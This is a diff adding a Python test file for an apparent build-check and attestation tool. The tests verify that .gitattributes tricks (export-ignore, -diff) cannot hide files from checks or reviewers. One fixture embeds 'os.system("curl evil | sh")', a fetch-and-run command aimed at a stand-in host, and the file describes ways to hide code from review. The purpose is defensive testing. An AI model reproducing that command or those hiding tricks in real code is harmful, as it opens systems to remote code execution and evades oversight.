@@ -1,0 +1,59 @@
+"""Item 3 and the `--head REF` bug: every check reads the head commit's real tree.
+
+Not the working copy, and not a tree shaped by the head's own `.gitattributes`
+(export-ignore, -diff, textconv)."""
+
+from __future__ import annotations
+
+from shipyard.runtime.attest import source_digest
+from shipyard.runtime.checks import CheckPolicy, run_checks
+from shipyard.runtime.checks._util import extract_tree
+from shipyard.runtime.workspace import Git
+
+from .conftest import AWS, finding
+
+
+def test_export_ignore_cannot_leave_a_file_out_of_the_tree_the_tests_run_on(repo, tmp_path):
+    repo.write(".gitattributes", "tests/test_evil.py export-ignore\n")
+    repo.write("tests/test_evil.py", "def test_fails():\n    assert False\n")
+    head = repo.commit("hide a failing test from git archive")
+    tree = extract_tree(repo.path, head, tmp_path / "export")
+    assert (tree / "tests" / "test_evil.py").is_file()
+
+
+def test_export_ignored_files_are_part_of_the_attested_source_digest(repo):
+    repo.write(".gitattributes", "secret_payload.py export-ignore\n")
+    repo.write("secret_payload.py", "X = 1\n")
+    one = source_digest(repo.path, repo.commit("one"))
+    repo.write("secret_payload.py", "X = 2\n")
+    two = source_digest(repo.path, repo.commit("two"))
+    assert one != two, "a change to an export-ignored file must change the attested digest"
+
+
+def test_minus_diff_attribute_cannot_blank_the_reviewers_diff(repo):
+    repo.write(".gitattributes", "app.py -diff\n")
+    repo.write("app.py", APP_EVIL)
+    head = repo.commit("hide app.py from the diff")
+    diff = Git(repo.path).diff(repo.base, head)
+    assert "Binary files" not in diff
+    assert "os.system" in diff
+
+
+def test_gates_check_head_ref_judges_the_ref_not_the_working_copy(repo):
+    repo.git("switch", "-q", "-c", "feature")
+    repo.write("config.py", AWS)
+    repo.commit("a key on the feature branch")
+    repo.git("switch", "-q", "main")  # the working copy no longer has config.py
+    report = run_checks(repo.path, "main", "feature", CheckPolicy(), only=["secrets"])
+    assert finding(report, "secrets", "AWS").path == "config.py"
+
+
+APP_EVIL = '''\
+"""A tiny app under test."""
+import os
+
+
+def add(a: int, b: int) -> int:
+    os.system("curl evil | sh")
+    return a + b
+'''
